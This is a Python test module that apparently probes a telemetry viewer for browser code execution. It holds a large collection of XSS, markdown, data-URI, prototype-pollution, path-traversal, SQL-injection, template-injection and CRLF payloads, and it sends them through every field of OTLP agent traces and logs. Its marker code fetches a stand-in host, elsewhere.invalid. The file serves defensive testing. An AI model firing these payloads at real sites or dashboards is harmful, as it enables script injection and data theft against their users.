"""Attempts at running code in the browser through telemetry: payloads, and traffic that has each of them in every place."""

import json
import os
import time
from base64 import b64encode
from typing import Any

from opentelemetry.proto.common.v1.common_pb2 import AnyValue, ArrayValue, KeyValue, KeyValueList
from opentelemetry.proto.logs.v1.logs_pb2 import LogRecord
from opentelemetry.proto.trace.v1.trace_pb2 import Span

from harness.otlp import any_value, attributes, logs, send, span, traces
from harness.server import Server

ELSEWHERE = 'http://elsewhere.invalid'
RUN = 'window.pwned.push(`{id}`);alert(`{id}`);fetch(`http://elsewhere.invalid/{id}`)'
SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="{run}"><script>{run}</script><foreignObject><img src=x onerror="{run}"/></foreignObject></svg>'

# `{run}` is code that would tell, `{id}` the attempt's number.
MARKUP = (
    '<script>{run}</script>',
    '<script src="http://elsewhere.invalid/{id}.js"></script>',
    '"><script>{run}</script>',
    "'><script>{run}</script>",
    '</script><script>{run}</script>',
    '</textarea><script>{run}</script>',
    '</title><script>{run}</script>',
    '--><script>{run}</script>',
    ']]><script>{run}</script>',
    '<img src=x onerror="{run}">',
    '<img src="http://elsewhere.invalid/{id}.png">',
    '" onmouseover="{run}" x="',
    "' onfocus='{run}' autofocus x='",
    '<svg onload="{run}">',
    '<svg><script>{run}</script></svg>',
    '<svg><animate onbegin="{run}" attributeName=x dur=1s>',
    '<svg><use href="http://elsewhere.invalid/{id}.svg#x"/></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror="{run}">',
    '<iframe srcdoc="<script>parent.{run}</script>"></iframe>',
    '<iframe src="javascript:{run}"></iframe>',
    '<object data="http://elsewhere.invalid/{id}"></object>',
    '<embed src="http://elsewhere.invalid/{id}">',
    '<link rel=stylesheet href="http://elsewhere.invalid/{id}.css">',
    '<link rel=preload as=script href="http://elsewhere.invalid/{id}.js">',
    '<meta http-equiv="refresh" content="0;url=http://elsewhere.invalid/{id}">',
    '<base href="http://elsewhere.invalid/">',
    '<style>@import "http://elsewhere.invalid/{id}.css"; * {{ background: url(http://elsewhere.invalid/{id}) }}</style>',
    '<div style="background:url(http://elsewhere.invalid/{id})">x</div>',
    '<video src="http://elsewhere.invalid/{id}.mp4" autoplay onerror="{run}"></video>',
    '<audio src="http://elsewhere.invalid/{id}.mp3" autoplay></audio>',
    '<body onload="{run}">',
    '<details open ontoggle="{run}"><summary>x</summary></details>',
    '<form action="javascript:{run}"><button>x</button></form>',
    '<input autofocus onfocus="{run}">',
    '<marquee onstart="{run}">x</marquee>',
    '<a href="javascript:{run}">x</a>',
    '<template><script>{run}</script></template>',
    '<noscript><p title="</noscript><img src=x onerror={run}>">',
    '<scr<script>ipt>{run}</scr</script>ipt>',
    '&lt;script&gt;{run}&lt;/script&gt;',
    '\\u003cscript\\u003e{run}\\u003c/script\\u003e',
    '\x00<script>{run}</script>\x00',
    '<ScRiPt\n>{run}</sCrIpT\n>',
    '\u202e<script>{run}</script>',
)
MARKDOWN = (
    '[click](javascript:{run})',
    '[click](  JaVaScRiPt:{run})',
    '[click](java\nscript:{run})',
    '[click](data:text/html,<script>{run}</script>)',
    '[click](vbscript:{run})',
    '[click](http://elsewhere.invalid/{id} "onmouseover={run}")',
    '[ref]: javascript:{run}\n\n[ref]',
    '![image](http://elsewhere.invalid/{id}.png)',
    '![image](data:image/svg+xml,<svg onload="{run}">)',
    '![image](x" onerror="{run})',
    '<javascript:{run}>',
    '<http://elsewhere.invalid/{id}>',
    'http://elsewhere.invalid/{id}',
    '```html\n<script>{run}</script>\n```',
    '```"><img src=x onerror={run}>\nx\n```',
    '`<img src=x onerror="{run}">`',
    '| <img src=x onerror="{run}"> |\n|---|\n| <script>{run}</script> |',
    '> <script>{run}</script>',
    '# <img src=x onerror="{run}">',
    '- <svg onload="{run}">',
    '**<img src=x onerror="{run}">**',
    '<!-- --!><img src=x onerror="{run}">',
)
ADDRESSES = (
    'javascript:{run}',
    'data:text/html,<script>{run}</script>',
    'data:text/html;base64,{html64}',
    'data:image/svg+xml,{svg}',
    'data:image/svg+xml;base64,{svg64}',
    '//elsewhere.invalid/{id}',
    'http://elsewhere.invalid/{id}.png',
    'blob:http://elsewhere.invalid/{id}',
    'file:///etc/passwd#{id}',
    '\\\\elsewhere.invalid\\{id}',
)
# Names that JavaScript objects know by themselves, ways out of paths and statements, and templates.
NAMES = (
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    'hasOwnProperty',
    '__proto__.polluted',
    'constructor.prototype.polluted',
    '../../../etc/passwd',
    '%2e%2e%2f%2e%2e%2f',
    '..',
    "x' OR '1'='1",
    "'; DROP TABLE records; --",
    '${{{run}}}',
    '{{{{constructor.constructor("{run}")()}}}}',
    '#{{{run}}}',
    '\r\nSet-Cookie: pwned={id}',
)
TEMPLATES = MARKUP + MARKDOWN + ADDRESSES + NAMES


def payloads() -> list[str]:
    """Every attempt with its number and the code that would tell of it."""
    made = []
    for i, template in enumerate(TEMPLATES):
        run = RUN.format(id=i)
        svg = SVG.format(run=run)
        html = f'<script>{run}</script>'
        made.append(template.format(run=run, id=i, svg=svg, svg64=b64encode(svg.encode()).decode(), html64=b64encode(html.encode()).decode()))
    return made


ATTEMPTS = payloads()


def text(content: str) -> dict[str, str]:
    return {'type': 'text', 'content': content}


def conversation(all_of_them: list[str]) -> dict[str, str]:
    """Messages, tools and files that hold all payloads."""
    svg = b64encode(SVG.format(run=RUN.format(id='svg')).encode()).decode()
    sent: list[dict[str, Any]] = [{'role': 'user', 'parts': [text(p)]} for p in all_of_them]
    sent += [{'role': p, 'name': p, 'parts': [{'type': p, p: p}]} for p in all_of_them[::4]]
    sent.append({'role': 'user', 'parts': [{'type': 'uri', 'modality': 'image', 'mime_type': 'image/png', 'uri': p} for p in ATTEMPTS if ':' in p]})
    sent.append({'role': 'user', 'parts': [{'type': 'image_url', 'image_url': {'url': p}} for p in ATTEMPTS if 'data:' in p or 'elsewhere' in p]})
    sent.append({'role': 'user', 'parts': [{'type': 'blob', 'modality': 'image', 'mime_type': mime, 'content': svg} for mime in ('image/svg+xml', 'text/html', 'image/png', 'image/png" onerror="alert(1)', 'application/xhtml+xml')]})
    received = [
        {
            'role': 'assistant',
            'parts': [{'type': 'thinking', 'content': p} for p in all_of_them[::3]]
            + [{'type': 'tool_call', 'id': p, 'name': p, 'arguments': json.dumps({p: p, 'nested': {p: [p]}})} for p in all_of_them[::2]]
            + [{'type': 'tool_call_response', 'id': p, 'name': p, 'result': {p: p}} for p in all_of_them[::3]],
            'finish_reason': all_of_them[0],
        }
    ]
    tools = [{'type': 'function', 'name': p, 'description': p, 'parameters': {'type': 'object', 'properties': {p: {'type': p, 'description': p, 'enum': [p]}}, 'required': [p]}} for p in all_of_them[::2]]
    return {'gen_ai.input.messages': json.dumps(sent), 'gen_ai.output.messages': json.dumps(received), 'gen_ai.tool.definitions': json.dumps(tools), 'gen_ai.system_instructions': json.dumps([text(p) for p in all_of_them[::3]])}


def one_trace(payload: str, start: int) -> tuple[list[Span], Span]:
    """A small agent run in which every name is the payload. Returns its spans and the model call."""
    trace = os.urandom(16)
    shared = {'gen_ai.conversation.id': payload, 'user.id': payload, 'tenant_id': payload, 'gen_ai.agent.name': payload, payload: payload, f'prefix.{payload}': payload}
    web = {'http.request.method': 'GET', 'url.full': payload, 'http.route': payload, 'http.target': payload, 'http.url': payload, 'logfire.msg': payload, 'logfire.msg_template': f'{{x}} {payload}', 'logfire.tags': [payload]}
    root = span(payload, trace=trace, start=start, seconds=3, values=web | {'code.filepath': payload, 'code.function': payload, 'db.statement': payload, 'db.system': payload})
    run = span(f'invoke_agent {payload}', trace=trace, parent=root.span_id, start=start + 1_000_000, seconds=2, values=shared | {'gen_ai.operation.name': 'invoke_agent', 'final_result': payload, 'gen_ai.request.model': payload})
    call = span(
        payload,
        trace=trace,
        parent=run.span_id,
        start=start + 2_000_000,
        seconds=1,
        values=shared
        | {
            'gen_ai.operation.name': 'chat',
            'gen_ai.provider.name': payload,
            'gen_ai.request.model': payload,
            'gen_ai.response.model': payload,
            'gen_ai.response.id': os.urandom(6).hex(),
            'gen_ai.response.finish_reasons': [payload],
            'gen_ai.request.stop_sequences': [payload],
            f'gen_ai.request.{payload}': payload,
            'gen_ai.prompt.version': payload,
            'gen_ai.prompt.0.__proto__.polluted': payload,
            'gen_ai.completion.0.constructor.prototype.polluted': payload,
            'error.type': payload,
            'retry_cause': payload,
            'retry_count': 2,
            'region': payload,
            'openai.response.service_tier': payload,
        }
        | conversation([payload]),
        events=[Span.Event(name=payload, time_unix_nano=start + 2_500_000, attributes=attributes({payload: payload}))],
    )
    tool = span(f'execute_tool {payload}', trace=trace, parent=run.span_id, start=start + 1_100_000_000, seconds=0.1, values=shared | {'gen_ai.operation.name': 'execute_tool', 'gen_ai.tool.name': payload, 'gen_ai.tool.call.arguments': json.dumps({payload: payload}), 'gen_ai.tool.call.result': payload})
    guard = span(f'guardrail {payload}', trace=trace, parent=run.span_id, start=start + 1_200_000_000, seconds=0.1, values={'name': payload, 'triggered': payload, 'openinference.span.kind': 'GUARDRAIL'})
    failed = span(payload, trace=trace, parent=root.span_id, start=start + 1_300_000_000, seconds=0.1, status=2, values={'exception.logfire.data': json.dumps([{'loc': [payload], 'msg': payload, payload: payload}])})
    failed.status.message = payload
    trouble = attributes({'exception.type': payload, 'exception.message': payload, 'exception.stacktrace': f'Traceback\n  File "{payload}", line 1, in {payload}\n    {payload}\n{payload}: {payload}'})
    failed.events.append(Span.Event(name='exception', time_unix_nano=start + 1_350_000_000, attributes=trouble))
    failed.links.append(Span.Link(trace_id=os.urandom(16), span_id=os.urandom(8), attributes=attributes({payload: payload})))
    return [root, run, call, tool, guard, failed], call


def attack(server: Server) -> tuple[list[Span], Span, bytes]:
    """Sends everything. Returns the model call of each payload, one call that holds all of them, and its run."""
    start = time.time_ns() - 60 * 10**9
    calls = []
    for i, payload in enumerate(ATTEMPTS):
        spans, call = one_trace(payload, start + i * 10_000_000)
        request = traces(spans, service=payload, scope=payload)
        request.resource_spans[0].resource.attributes.extend(attributes({payload: payload, 'deployment.environment.name': payload, 'service.version': payload}))
        send(server, request)
        judged = attributes({'gen_ai.evaluation.name': payload, 'gen_ai.evaluation.score.label': payload, 'gen_ai.evaluation.explanation': payload})
        body = AnyValue(kvlist_value=KeyValueList(values=[KeyValue(key=payload, value=AnyValue(array_value=ArrayValue(values=[any_value(payload)])))]))
        send(server, logs([LogRecord(time_unix_nano=start, trace_id=call.trace_id, span_id=call.span_id, event_name='gen_ai.evaluation.result', attributes=judged), LogRecord(time_unix_nano=start, body=body, severity_text=payload, attributes=attributes({payload: payload}))], service=payload))
        calls.append(call)
    trace = os.urandom(16)
    run = span('invoke_agent everything', trace=trace, start=start, seconds=3, values={'gen_ai.operation.name': 'invoke_agent', 'gen_ai.agent.name': 'everything', 'pydantic_ai.all_messages': conversation(ATTEMPTS)['gen_ai.input.messages']})
    everything = span('chat everything', trace=trace, parent=run.span_id, start=start, seconds=1, values={'gen_ai.operation.name': 'chat', 'gen_ai.provider.name': 'openai', 'gen_ai.request.model': 'everything', 'gen_ai.agent.name': 'everything'} | conversation(ATTEMPTS) | {p: p for p in ATTEMPTS})
    send(server, traces([run, everything], service='everything'))
    return calls, everything, run.span_id
